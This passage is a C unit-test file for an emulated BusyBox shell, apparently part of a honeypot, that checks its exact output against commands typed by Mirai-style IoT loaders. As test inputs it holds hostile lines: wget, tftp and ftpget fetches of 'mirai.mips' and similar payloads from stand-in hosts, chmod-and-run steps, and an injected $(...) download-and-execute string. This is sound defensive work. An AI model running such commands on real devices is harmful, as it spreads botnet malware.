@@ -1,0 +1,731 @@
+/* test_sh.c — the emulated BusyBox shell against what Mirai-family loaders
+ * and scanners type (see ATTACKS.md §2). Exact output bytes are asserted. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+
+#include <cmocka.h>
+
+#include "bounds.h"
+#include "buf.h"
+#include "persona/persona.h"
+#include "sh/sh.h"
+#include "sh/vfs.h"
+
+/* ------------------------------------------------------------------ */
+/* fake host                                                           */
+
+#define MAX_EV 2048
+
+struct ev {
+	enum sh_event ev;
+	char *input, *url, *outfile, *applet, *reason;
+	uint8_t *data;
+	size_t len;
+	int status;
+};
+
+struct host {
+	struct buf out;
+	unsigned pauses[8];
+	size_t pause_at[8];
+	int npause;
+	struct ev ev[MAX_EV];
+	int nev;
+	int64_t now;
+};
+
+static char *dupn(const char *p, size_t n)
+{
+	char *s = malloc(n + 1);
+
+	assert_non_null(s);
+	memcpy(s, p, n);
+	s[n] = '\0';
+	return s;
+}
+
+static void h_out(void *ctx, const void *p, size_t n)
+{
+	struct host *h = ctx;
+
+	assert_int_equal(buf_add(&h->out, p, n), 0);
+}
+
+static void h_pause(void *ctx, unsigned ms)
+{
+	struct host *h = ctx;
+
+	if (h->npause < 8) {
+		h->pauses[h->npause] = ms;
+		h->pause_at[h->npause++] = h->out.len;
+	}
+}
+
+static void h_event(void *ctx, enum sh_event ev, const struct sh_event_info *i)
+{
+	struct host *h = ctx;
+	struct ev *e;
+
+	if (h->nev >= MAX_EV)
+		return;
+	e = &h->ev[h->nev++];
+	memset(e, 0, sizeof *e);
+	e->ev = ev;
+	if (i->input)
+		e->input = dupn(i->input, i->input_len);
+	if (i->url)
+		e->url = dupn(i->url, strlen(i->url));
+	if (i->outfile)
+		e->outfile = dupn(i->outfile, strlen(i->outfile));
+	if (i->applet)
+		e->applet = dupn(i->applet, strlen(i->applet));
+	if (i->reason)
+		e->reason = dupn(i->reason, strlen(i->reason));
+	if (i->data) {
+		e->data = malloc(i->len ? i->len : 1);
+		assert_non_null(e->data);
+		memcpy(e->data, i->data, i->len);
+		e->len = i->len;
+	}
+	e->status = i->status;
+}
+
+static int64_t h_now(void *ctx)
+{
+	return ((struct host *)ctx)->now;
+}
+
+static void host_clear(struct host *h)
+{
+	int i;
+
+	for (i = 0; i < h->nev; i++) {
+		free(h->ev[i].input);
+		free(h->ev[i].url);
+		free(h->ev[i].outfile);
+		free(h->ev[i].applet);
+		free(h->ev[i].reason);
+		free(h->ev[i].data);
+	}
+	h->nev = 0;
+	h->npause = 0;
+	buf_reset(&h->out);
+}
+
+static int count_ev(const struct host *h, enum sh_event ev)
+{
+	int i, n = 0;
+
+	for (i = 0; i < h->nev; i++)
+		n += h->ev[i].ev == ev;
+	return n;
+}
+
+static const struct ev *find_ev(const struct host *h, enum sh_event ev)
+{
+	int i;
+
+	for (i = 0; i < h->nev; i++)
+		if (h->ev[i].ev == ev)
+			return &h->ev[i];
+	return NULL;
+}
+
+/* ------------------------------------------------------------------ */
+/* a persona built by hand                                             */
+
+static const char mounts[] =
+	"rootfs / rootfs rw 0 0\n"
+	"/dev/root / squashfs ro,relatime 0 0\n"
+	"proc /proc proc rw,relatime 0 0\n"
+	"tmpfs /dev tmpfs rw,relatime 0 0\n"
+	"tmpfs /var tmpfs rw,relatime 0 0\n"
+	"/dev/mtdblock3 /mnt/mtd jffs2 rw,relatime 0 0\n";
+
+static const char cpuinfo[] = "system type\t\t: MT7620\ncpu model\t\t: MIPS 24KEc V5.0\n";
+static const char meminfo[] = "MemTotal:          28616 kB\nMemFree:            6136 kB\nBuffers:            2024 kB\n";
+
+static char *applet_names[] = {"[",    "ash",   "busybox", "cat",  "chmod", "cp",
+			       "dd",   "df",    "echo",    "free", "ftpget", "grep",  "head",
+			       "kill", "ls",    "mkdir",   "mount", "mv",   "ps",
+			       "rm",   "sh",    "sleep",   "su",   "tftp",  "touch",
+			       "uname", "wc",   "wget",    "which"};
+
+static char *procs[] = {
+	"root      1524 S    init",
+	"root         0 SW<  [kthreadd]",
+	"root         0 SW<  [ksoftirqd/0]",
+	"root      1520 S    /sbin/syslogd",
+	"root      1524 S    /usr/sbin/telnetd",
+};
+
+struct fixture {
+	struct persona p;
+	struct persona_file files[8];
+	struct persona_clicmd cli[3];
+	uint8_t elf[300];
+	struct host h;
+	struct sh *sh;
+	struct persona *loaded;
+};
+
+static void pstr(struct pstr *s, const char *v)
+{
+	s->p = (char *)v;
+	s->n = strlen(v);
+}
+
+static void file(struct persona_file *f, const char *path, const char *data,
+		 unsigned mode)
+{
+	memset(f, 0, sizeof *f);
+	f->path = (char *)path;
+	f->mode = mode;
+	if (data)
+		pstr(&f->data, data);
+	f->mtime = 1500000000;
+}
+
+static void build_persona(struct fixture *fx)
+{
+	struct persona *p = &fx->p;
+	size_t i;
+
+	memset(p, 0, sizeof *p);
+	p->name = "test";
+	p->hostname = "router";
+	pstr(&p->prompt_root, "[root@%h %w]# ");
+	pstr(&p->prompt_user, "$ ");
+	pstr(&p->motd, "Welcome\n");
+	pstr(&p->shell_banner, "");
+	p->busybox_version = "v1.16.1 (2013-07-30 10:31:49 CST)";
+	p->applets = applet_names;
+	p->napplets = sizeof applet_names / sizeof applet_names[0];
+	p->uname_s = "Linux";
+	p->uname_r = "2.6.36";
+	p->uname_v = "#1 Fri Jan 1 00:00:00 CST 2016";
+	p->uname_m = "mips";
+	p->procs = procs;
+	p->nprocs = sizeof procs / sizeof procs[0];
+	p->ps_header = "  PID USER       VSZ STAT COMMAND";
+	p->su_password = "zyad5001";
+	file(&fx->files[0], "/bin", NULL, S_IFDIR | 0755);
+	file(&fx->files[1], "/dev", NULL, S_IFDIR | 0755);
+	file(&fx->files[2], "/etc/passwd", "root:x:0:0:root:/:/bin/sh\n", S_IFREG | 0644);
+	file(&fx->files[3], "/proc/cpuinfo", cpuinfo, S_IFREG | 0444);
+	file(&fx->files[4], "/proc/meminfo", meminfo, S_IFREG | 0444);
+	file(&fx->files[5], "/proc/mounts", mounts, S_IFREG | 0444);
+	file(&fx->files[6], "/tmp", NULL, S_IFLNK | 0777);
+	fx->files[6].target = "/var/tmp";
+	file(&fx->files[7], "/var/tmp", NULL, S_IFDIR | 0755);
+	p->files = fx->files;
+	p->nfiles = 8;
+	/* a MIPS little-endian ELF-looking image */
+	for (i = 0; i < sizeof fx->elf; i++)
+		fx->elf[i] = (uint8_t)(i * 7 + 3);
+	memcpy(fx->elf, "\x7f" "ELF\x01\x01\x01", 7);
+	fx->elf[18] = 8;
+	fx->elf[19] = 0;
+	p->busybox = fx->elf;
+	p->busybox_len = sizeof fx->elf;
+	p->elf.ei_class = 1;
+	p->elf.ei_data = 1;
+	p->elf.e_machine = 8;
+	p->boot_time = 1700000000;
+	p->pid_base = 400;
+	p->pid_next = 1201;
+}
+
+static struct sh *new_shell(struct fixture *fx, const struct persona *p,
+			    bool root)
+{
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL};
+
+	fx->sh = sh_new(p, &hh, root);
+	assert_non_null(fx->sh);
+	return fx->sh;
+}
+
+static int setup(void **state)
+{
+	struct fixture *fx = calloc(1, sizeof *fx);
+
+	if (!fx)
+		return -1;
+	build_persona(fx);
+	buf_init(&fx->h.out, 8u * 1024 * 1024);
+	fx->h.now = 1700000000 + 3 * 86400 + 3600;
+	*state = fx;
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	struct fixture *fx = *state;
+
+	sh_free(fx->sh);
+	if (fx->loaded)
+		persona_free(fx->loaded);
+	host_clear(&fx->h);
+	buf_free(&fx->h.out);
+	free(fx);
+	assert_int_equal(vfs_total_bytes(), 0);
+	return 0;
+}
+
+/* Runs a line and returns the output (valid until the next call). */
+static const char *run(struct fixture *fx, const char *line)
+{
+	buf_reset(&fx->h.out);
+	sh_line(fx->sh, line, strlen(line));
+	return fx->h.out.p ? fx->h.out.p : "";
+}
+
+#define RUN_EQ(fx, line, want) assert_string_equal(run(fx, line), want)
+
+/* ------------------------------------------------------------------ */
+/* tests                                                               */
+
+static void t_scanner(void **state)
+{
+	struct fixture *fx = *state;
+
+	new_shell(fx, &fx->p, true);
+	sh_start(fx->sh);
+	assert_string_equal(fx->h.out.p, "Welcome\n[root@router /]# ");
+	RUN_EQ(fx, "enable", "-sh: enable: not found\n[root@router /]# ");
+	RUN_EQ(fx, "system", "-sh: system: not found\n[root@router /]# ");
+	RUN_EQ(fx, "shell", "-sh: shell: not found\n[root@router /]# ");
+	RUN_EQ(fx, "linuxshell", "-sh: linuxshell: not found\n[root@router /]# ");
+	RUN_EQ(fx, "sh", "[root@router /]# ");
+	RUN_EQ(fx, "/bin/busybox MIRAI", "MIRAI: applet not found\n[root@router /]# ");
+	RUN_EQ(fx, "busybox SATORI", "SATORI: applet not found\n[root@router /]# ");
+	assert_int_equal(count_ev(&fx->h, SH_EV_NOTFOUND), 4);
+	assert_int_equal(count_ev(&fx->h, SH_EV_COMMAND), 7);
+	/* exit leaves the nested sh, then the session */
+	RUN_EQ(fx, "exit", "[root@router /]# ");
+	assert_int_equal(sh_mode(fx->sh), SH_MODE_SHELL);
+	RUN_EQ(fx, "exit", "");
+	assert_int_equal(sh_mode(fx->sh), SH_MODE_DONE);
+}
+
+static void t_mounts_nippon(void **state)
+{
+	struct fixture *fx = *state;
+	char want[1024];
+
+	new_shell(fx, &fx->p, true);
+	snprintf(want, sizeof want, "%sECCHI: applet not found\n[root@router /]# ",
+		 mounts);
+	RUN_EQ(fx, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", want);
+	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon",
+	       "kami/dev\n[root@router /]# ");
+	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; cat /var/.nippon; rm /var/.nippon",
+	       "kami/var\n[root@router /]# ");
+	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/mnt/mtd' > /mnt/mtd/.nippon; /bin/busybox cat /mnt/mtd/.nippon; /bin/busybox rm /mnt/mtd/.nippon",
+	       "kami/mnt/mtd\n[root@router /]# ");
+	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/' > //.nippon; cat //.nippon; rm //.nippon",
+	       "-sh: can't create //.nippon: Read-only file system\n"
+	       "cat: can't open '//.nippon': No such file or directory\n"
+	       "rm: can't remove '//.nippon': No such file or directory\n"
+	       "[root@router /]# ");
+	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/proc' > /proc/.nippon",
+	       "-sh: can't create /proc/.nippon: nonexistent directory\n[root@router /]# ");
+	RUN_EQ(fx, "echo x > /etc/passwd", "-sh: can't create /etc/passwd: Read-only file system\n[root@router /]# ");
+	run(fx, "mount");
+	assert_memory_equal(fx->h.out.p, mounts, strlen(mounts));
+	/* /tmp is a symlink into /var */
+	RUN_EQ(fx, "echo hi > /tmp/x; cat /var/tmp/x", "hi\n[root@router /]# ");
+}
+
+static void t_cp_chmod_cat_echo(void **state)
+{
+	struct fixture *fx = *state;
+	const char *out;
+	size_t plen = strlen("[root@router /var]# ");
+
+	new_shell(fx, &fx->p, true);
+	RUN_EQ(fx, "cd /var/", "[root@router /var]# ");
+	RUN_EQ(fx, "cp /bin/echo dvrHelper; >dvrHelper; chmod 777 dvrHelper",
+	       "[root@router /var]# ");
+	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
+	RUN_EQ(fx, "ls -l dvrHelper",
+	       "-rwxrwxrwx    1 root     root            0 Nov 17 23:13 dvrHelper\n[root@router /var]# ");
+	out = run(fx, "/bin/busybox cat /bin/echo; /bin/busybox ECCHI");
+	assert_int_equal(fx->h.out.len, sizeof fx->elf + 24 + plen);
+	assert_memory_equal(out, fx->elf, sizeof fx->elf);
+	assert_string_equal(out + sizeof fx->elf, "ECCHI: applet not found\n[root@router /var]# ");
+	assert_int_equal(fx->h.npause, 1);
+	assert_int_equal(fx->h.pauses[0], 100);
+	assert_int_equal(fx->h.pause_at[0], 52);
+	/* dd variant: just the header, no pause needed */
+	fx->h.npause = 0;
+	out = run(fx, "dd bs=52 count=1 if=/bin/busybox || cat /bin/busybox");
+	assert_memory_equal(out, fx->elf, 52);
+	assert_string_equal(out + 52, "1+0 records in\n1+0 records out\n[root@router /var]# ");
+	/* ECHODONE */
+	RUN_EQ(fx, "echo -en '\\x41\\x42' > .x && echo -en '\\x45\\x43\\x48\\x4f\\x44\\x4f\\x4e\\x45'",
+	       "ECHODONE[root@router /var]# ");
+	RUN_EQ(fx, "echo 'abc\\c'", "abc\\c\n[root@router /var]# ");
+	RUN_EQ(fx, "echo -e 'abc\\cdef'; echo", "abc\n[root@router /var]# ");
+	RUN_EQ(fx, "echo -n hi; echo -ne '\\0101\\n'", "hiA\n[root@router /var]# ");
+}
+
+static void t_echo_rebuild(void **state)
+{
+	struct fixture *fx = *state;
+	uint8_t bin[1000];
+	char line[4096];
+	size_t i, off;
+	const struct ev *e;
+
+	for (i = 0; i < sizeof bin; i++)
+		bin[i] = (uint8_t)(i * 131 + 7);
+	bin[0] = 0x7f;
+	bin[1] = 0x00;
+	bin[2] = 0xff;
+	bin[3] = '\'';
+	new_shell(fx, &fx->p, true);
+	run(fx, "cd /dev");
+	for (off = 0; off < sizeof bin; off += 128) {
+		size_t n = sizeof bin - off < 128 ? sizeof bin - off : 128, k = 0;
+
+		k += (size_t)snprintf(line + k, sizeof line - k, "echo -ne '");
+		for (i = 0; i < n; i++)
+			k += (size_t)snprintf(line + k, sizeof line - k, "\\x%02x", bin[off + i]);
+		snprintf(line + k, sizeof line - k, "' %s upnp; /bin/busybox ECCHI",
+			 off ? ">>" : ">");
+		RUN_EQ(fx, line, "ECCHI: applet not found\n[root@router /dev]# ");
+	}
+	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
+	RUN_EQ(fx, "./upnp; ./dvrHelper telnet.mpsl; /bin/busybox IHCCE",
+	       "-sh: ./upnp: Permission denied\n-sh: ./dvrHelper: not found\n"
+	       "IHCCE: applet not found\n[root@router /dev]# ");
+	e = find_ev(&fx->h, SH_EV_CAPTURE);
+	assert_non_null(e);
+	assert_string_equal(e->reason, "exec");
+	assert_string_equal(e->outfile, "/dev/upnp");
+	assert_int_equal(e->len, sizeof bin);
+	assert_memory_equal(e->data, bin, sizeof bin);
+	/* unchanged: not captured again, by exec, chmod or at the end */
+	run(fx, "./upnp; chmod +x upnp; ./upnp");
+	sh_end(fx->sh);
+	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 1);
+	/* changed, then chmod'ed: captured with reason chmod */
+	run(fx, "echo -n more >> upnp; chmod 755 upnp");
+	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 2);
+	assert_string_equal(fx->h.ev[fx->h.nev - 1].reason, "chmod");
+	/* a file nobody ran: captured at session end */
+	run(fx, "echo payload > /var/other; echo -n > /var/empty");
+	sh_end(fx->sh);
+	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 3);
+	assert_string_equal(fx->h.ev[fx->h.nev - 1].reason, "session_end");
+	assert_string_equal(fx->h.ev[fx->h.nev - 1].outfile, "/var/other");
+}
+
+static void t_exec_elf(void **state)
+{
+	struct fixture *fx = *state;
+
+	new_shell(fx, &fx->p, true);
+	run(fx, "cd /var; cp /bin/busybox b; chmod 777 b");
+	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0); /* our own image */
+	RUN_EQ(fx, "./b; echo $?", "0\n[root@router /var]# ");
+	RUN_EQ(fx, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x28' > a; chmod +x a; ./a",
+	       "Illegal instruction\n[root@router /var]# ");
+	RUN_EQ(fx, "echo 'echo from script $1' > s.sh; chmod +x s.sh; ./s.sh arg; sh s.sh two",
+	       "from script arg\nfrom script two\n[root@router /var]# ");
+}
+
+static void t_while_read_dd(void **state)
+{
+	struct fixture *fx = *state;
+
+	new_shell(fx, &fx->p, true);
+	run(fx, "cd /var");
+	RUN_EQ(fx, "printf; echo -ne 'abc\\ndef\\n' > .s", "-sh: printf: not found\n[root@router /var]# ");
+	RUN_EQ(fx, "while read i; do echo $i; done < .s", "abc\ndef\n[root@router /var]# ");
+	RUN_EQ(fx, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
+	       "abc\ndef\n0+1 records in\n0+1 records out\n[root@router /var]# ");
+	RUN_EQ(fx, "dd if=.nope bs=22 count=1 || while read i; do echo \"<$i>\"; done < .s",
+	       "dd: can't open '.nope': No such file or directory\n<abc>\n<def>\n[root@router /var]# ");
+	RUN_EQ(fx, "cat .s | grep def; cat .s | wc -l; wc -c .s",
+	       "def\n2\n        8 .s\n[root@router /var]# ");
+	RUN_EQ(fx, "head -n 1 .s; head -c 2 .s; echo", "abc\nab\n[root@router /var]# ");
+	/* multi-line constructs continue with PS2 */
+	RUN_EQ(fx, "while read i", "> ");
+	RUN_EQ(fx, "do echo x$i", "> ");
+	RUN_EQ(fx, "done < .s", "xabc\nxdef\n[root@router /var]# ");
+	RUN_EQ(fx, "for f in a b; do echo $f; done", "a\nb\n[root@router /var]# ");
+	RUN_EQ(fx, "if [ -f .s ]; then echo yes; else echo no; fi", "yes\n[root@router /var]# ");
+	RUN_EQ(fx, "echo 'unterminated", "> ");
+	RUN_EQ(fx, "x'", "unterminated\nx\n[root@router /var]# ");
+}
+
+static void t_andor_status(void **state)
+{
+	struct fixture *fx = *state;
+
+	new_shell(fx, &fx->p, true);
+	RUN_EQ(fx, "false || echo a && echo b", "a\nb\n[root@router /]# ");
+	RUN_EQ(fx, "nosuch && echo x || echo y",
+	       "-sh: nosuch: not found\ny\n[root@router /]# ");
+	RUN_EQ(fx, "false; echo $?", "1\n[root@router /]# ");
+	RUN_EQ(fx, "nosuch 2>/dev/null; echo $?", "127\n[root@router /]# ");
+	RUN_EQ(fx, "cat /nope 2>&1 | wc -l", "1\n[root@router /]# ");
+	RUN_EQ(fx, "X=hello; echo \"$X world\" '$X' `echo bq` $(echo dollar)",
+	       "hello world $X bq dollar\n[root@router /]# ");
+	RUN_EQ(fx, "echo a\\ b \"c  d\"", "a b c  d\n[root@router /]# ");
+	RUN_EQ(fx, "cd /nope", "-sh: cd: can't cd to /nope\n[root@router /]# ");
+	RUN_EQ(fx, "echo x; done", "-sh: syntax error: unexpected \"done\"\n[root@router /]# ");
+	RUN_EQ(fx, "ls /var", "tmp\n[root@router /]# ");
+	RUN_EQ(fx, "cd /var && mkdir d && cd d && pwd", "/var/d\n[root@router /var/d]# ");
+	RUN_EQ(fx, "cd /var; touch a b c; ls; echo *", "a    b    c    d    tmp\na b c d tmp\n[root@router /var]# ");
+	RUN_EQ(fx, "which cat wget nosuch; echo $?", "/bin/cat\n/bin/wget\n1\n[root@router /var]# ");
+}
+
+static void t_fetch(void **state)
+{
+	struct fixture *fx = *state;
+	const char *out;
+	const struct ev *e;
+
+	new_shell(fx, &fx->p, true);
+	run(fx, "cd /var");
+	out = run(fx, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
+	assert_non_null(strstr(out, "BusyBox v1.16.1 (2013-07-30 10:31:49 CST) multi-call binary.\n\nUsage: wget "));
+	assert_non_null(strstr(out, "Usage: tftp "));
+	assert_null(strstr(out, "wget: applet not found"));
+	assert_null(strstr(out, "tftp: applet not found"));
+	assert_non_null(strstr(out, "ECCHI: applet not found\n"));
+	host_clear(&fx->h);
+	RUN_EQ(fx, "/bin/busybox wget http://1.2.3.4:8080/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
+	       "Connecting to 1.2.3.4:8080 (1.2.3.4:8080)\n"
+	       "wget: can't connect to remote host (1.2.3.4): Connection timed out\n"
+	       "[root@router /var]# ");
+	e = find_ev(&fx->h, SH_EV_FETCH);
+	assert_non_null(e);
+	assert_string_equal(e->applet, "wget");
+	assert_string_equal(e->url, "http://1.2.3.4:8080/bins/mirai.mips");
+	assert_string_equal(e->outfile, "/var/dvrHelper");
+	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
+	host_clear(&fx->h);
+	RUN_EQ(fx, "wget http://evil.example/x.sh", "wget: bad address 'evil.example'\n[root@router /var]# ");
+	assert_string_equal(find_ev(&fx->h, SH_EV_FETCH)->outfile, "/var/x.sh");
+	host_clear(&fx->h);
+	RUN_EQ(fx, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm 10.0.0.9 6969",
+	       "tftp: timeout\n[root@router /var]# ");
+	e = find_ev(&fx->h, SH_EV_FETCH);
+	assert_string_equal(e->url, "tftp://10.0.0.9:6969/mirai.arm");
+	assert_string_equal(e->outfile, "/var/dvrHelper");
+	host_clear(&fx->h);
+	run(fx, "tftp -r x.sh -g 10.0.0.9");
+	assert_string_equal(find_ev(&fx->h, SH_EV_FETCH)->url, "tftp://10.0.0.9/x.sh");
+	host_clear(&fx->h);
+	run(fx, "wget -g http://5.6.7.8 -l /var/f -r /mips");
+	e = find_ev(&fx->h, SH_EV_FETCH);
+	assert_string_equal(e->url, "http://5.6.7.8/mips");
+	assert_string_equal(e->outfile, "/var/f");
+	host_clear(&fx->h);
+	run(fx, "ftpget -u anonymous -p x 9.9.9.9 f.sh bins/f.sh");
+	e = find_ev(&fx->h, SH_EV_FETCH);
+	assert_string_equal(e->url, "ftp://9.9.9.9/bins/f.sh");
+	assert_string_equal(e->outfile, "/var/f.sh");
+	/* curl is not in this persona */
+	RUN_EQ(fx, "curl http://1.2.3.4/x", "-sh: curl: not found\n[root@router /var]# ");
+	RUN_EQ(fx, "/bin/busybox curl", "curl: applet not found\n[root@router /var]# ");
+}
+
+static void t_inject(void **state)
+{
+	struct fixture *fx = *state;
+	const char *cmd = "$(/bin/busybox wget -g 1.2.3.4 -l /var/f -r /mips; "
+			  "/bin/busybox chmod 777 * /var/f; /var/f huawei)";
+	const struct ev *e;
+
+	new_shell(fx, &fx->p, true);
+	run(fx, "cd /dev");
+	host_clear(&fx->h);
+	sh_inject(fx->sh, cmd, strlen(cmd));
+	assert_int_equal(fx->h.out.len, 0);
+	e = find_ev(&fx->h, SH_EV_FETCH);
+	assert_non_null(e);
+	assert_string_equal(e->url, "http://1.2.3.4/mips");
+	assert_string_equal(e->outfile, "/var/f");
+	assert_int_equal(count_ev(&fx->h, SH_EV_COMMAND), 1);
+	/* backticks as in the Realtek door; the session cwd is untouched */
+	cmd = "`cd /var; echo -n built > x; chmod +x x; ./x`";
+	sh_inject(fx->sh, cmd, strlen(cmd));
+	e = find_ev(&fx->h, SH_EV_CAPTURE);
+	assert_non_null(e);
+	assert_string_equal(e->outfile, "/var/x");
+	assert_string_equal(e->reason, "chmod");
+	RUN_EQ(fx, "pwd", "/dev\n[root@router /dev]# ");
+}
+
+static void t_caps(void **state)
+{
+	struct fixture *fx = *state;
+	char line[CAP_LINE];
+	const char *out;
+
+	new_shell(fx, &fx->p, true);
+	memcpy(line, "echo ", 5);
+	memset(line + 5, 'A', 4000);
+	snprintf(line + 4005, sizeof line - 4005, " > /var/a");
+	run(fx, line);
+	out = run(fx, "cd /var; cat a a a a a a a a > b; cat b b b b b b b b > c; cat c c c c c c c c > d; echo $?");
+	assert_non_null(strstr(out, "No space left on device"));
+	assert_true(vfs_total_bytes() <= CAP_FS_SESSION);
+	/* many files: the node cap */
+	out = run(fx, "for a in 0 1 2 3 4 5 6 7 8 9; do for b in 0 1 2 3 4 5 6 7 8 9; do for c in 0 1 2 3 4 5 6 7; do touch f$a$b$c; done; done; done");
+	assert_non_null(strstr(out, "No space left on device"));
+	/* runaway loops end */
+	out = run(fx, "while true; do echo y; done");
+	assert_true(fx->h.out.len <= CAP_SH_OUTPUT + 64);
+	out = run(fx, "X='$(eval $X)'; eval $X; echo done");
+	assert_non_null(strstr(out, "done\n"));
+	/* deep nesting */
+	out = run(fx, "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo deep))))))))))");
+	assert_non_null(out);
+	/* the session can still work */
+	RUN_EQ(fx, "rm -rf /var/*; echo ok > /var/z; cat /var/z", "ok\n[root@router /var]# ");
+}
+
+static void t_su_ps_kill(void **state)
+{
+	struct fixture *fx = *state;
+	const char *out;
+
+	new_shell(fx, &fx->p, false);
+	RUN_EQ(fx, "su", "Password: ");
+	assert_int_equal(sh_mode(fx->sh), SH_MODE_PASSWORD);
+	RUN_EQ(fx, "wrong", "\nsu: incorrect password\n$ ");
+	assert_int_equal(find_ev(&fx->h, SH_EV_SU)->status, 1);
+	host_clear(&fx->h);
+	RUN_EQ(fx, "su", "Password: ");
+	RUN_EQ(fx, "zyad5001", "\n[root@router /]# ");
+	assert_int_equal(find_ev(&fx->h, SH_EV_SU)->status, 0);
+	RUN_EQ(fx, "exit", "$ ");
+	out = run(fx, "ps");
+	assert_non_null(strstr(out, "  PID USER       VSZ STAT COMMAND\n"
+				    "    1 root      1524 S    init\n"
+				    "    2 root         0 SW<  [kthreadd]\n"
+				    "    3 root         0 SW<  [ksoftirqd/0]\n"
+				    "  400 root      1520 S    /sbin/syslogd\n"));
+	assert_non_null(strstr(out, " 1201 admin     1532 S    -sh\n"));
+	RUN_EQ(fx, "kill -9 400; kill 99999", "kill: can't kill pid 99999: No such process\n$ ");
+	out = run(fx, "ps");
+	assert_null(strstr(out, "syslogd"));
+	RUN_EQ(fx, "uname -a", "Linux router 2.6.36 #1 Fri Jan 1 00:00:00 CST 2016 mips unknown\n$ ");
+	RUN_EQ(fx, "uname -m", "mips\n$ ");
+	RUN_EQ(fx, "free",
+	       "              total         used         free       shared      buffers\n"
+	       "  Mem:        28616        22480         6136            0         2024\n"
+	       " Swap:            0            0            0\n"
+	       "Total:        28616        22480         6136\n$ ");
+	RUN_EQ(fx, "cat /proc/uptime", "262800.00 236520.00\n$ ");
+	RUN_EQ(fx, "sleep 100", "$ ");
+	assert_int_equal(fx->h.pauses[fx->h.npause - 1], CAP_SLEEP_MS);
+}
+
+static void t_cli(void **state)
+{
+	struct fixture *fx = *state;
+
+	pstr(&fx->p.cli_prompt, "ATP>");
+	pstr(&fx->p.cli_unknown, "Command failed.\n");
+	pstr(&fx->p.shell_banner, "\n\nBusyBox vv1.9.1 built-in shell (ash)\n\n");
+	fx->cli[0].name = "shell";
+	pstr(&fx->cli[0].output, "\n");
+	fx->cli[0].action = CLI_SHELL;
+	fx->cli[1].name = "quit";
+	pstr(&fx->cli[1].output, "Bye\n");
+	fx->cli[1].action = CLI_EXIT;
+	fx->p.cli = true;
+	fx->p.clicmds = fx->cli;
+	fx->p.nclicmds = 2;
+	pstr(&fx->p.prompt_root, "# ");
+	new_shell(fx, &fx->p, true);
+	sh_start(fx->sh);
+	assert_string_equal(fx->h.out.p, "Welcome\nATP>");
+	assert_int_equal(sh_mode(fx->sh), SH_MODE_CLI);
+	RUN_EQ(fx, "enable", "Command failed.\nATP>");
+	RUN_EQ(fx, "", "ATP>");
+	RUN_EQ(fx, "shell", "\n\n\nBusyBox vv1.9.1 built-in shell (ash)\n\n# ");
+	assert_int_equal(sh_mode(fx->sh), SH_MODE_SHELL);
+	RUN_EQ(fx, "/bin/busybox ECCHI", "ECCHI: applet not found\n# ");
+	RUN_EQ(fx, "exit", "ATP>");
+	RUN_EQ(fx, "quit", "Bye\n");
+	assert_int_equal(sh_mode(fx->sh), SH_MODE_DONE);
+	assert_int_equal(count_ev(&fx->h, SH_EV_COMMAND), 6);
+}
+
+/* The real persona from personas/, when the loader can read it. */
+static void t_real_persona(void **state)
+{
+	struct fixture *fx = *state;
+	struct persona_unit unit;
+	char err[256];
+	const char *out;
+	size_t i;
+
+	memset(&unit, 0, sizeof unit);
+	for (i = 0; i < sizeof unit.seed; i++)
+		unit.seed[i] = (uint8_t)i;
+	unit.first_start = 1700000000;
+	fx->loaded = persona_load("personas", "xiongmai-dvr", &unit, err, sizeof err);
+	if (!fx->loaded) {
+		print_message("skipped: %s\n", err);
+		skip();
+	}
+	new_shell(fx, fx->loaded, true);
+	sh_start(fx->sh);
+	out = run(fx, "enable");
+	assert_non_null(strstr(out, "-sh: enable: not found\n"));
+	out = run(fx, "/bin/busybox ps; /bin/busybox ECCHI");
+	assert_non_null(strstr(out, "ECCHI: applet not found\n"));
+	out = run(fx, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
+	assert_non_null(strstr(out, " rw"));
+	out = run(fx, "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon");
+	assert_memory_equal(out, "kami/dev\n", 9);
+	out = run(fx, "cd /dev/; cp /bin/echo dvrHelper; >dvrHelper; chmod 777 dvrHelper; echo ok");
+	assert_memory_equal(out, "ok\n", 3);
+	out = run(fx, "/bin/busybox cat /proc/cpuinfo /proc/uptime; free; df; ls /; ps; uname -a");
+	assert_null(strstr(out, "ELF"));
+	out = run(fx, "/bin/busybox cat /bin/echo");
+	assert_memory_equal(out, "\x7f" "ELF", 4);
+	assert_int_equal((unsigned char)out[5], fx->loaded->elf.ei_data);
+	out = run(fx, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
+	if (persona_has_applet(fx->loaded, "tftp"))
+		assert_null(strstr(out, "tftp: applet not found"));
+	if (!persona_has_applet(fx->loaded, "wget"))
+		assert_non_null(strstr(out, "wget: applet not found"));
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
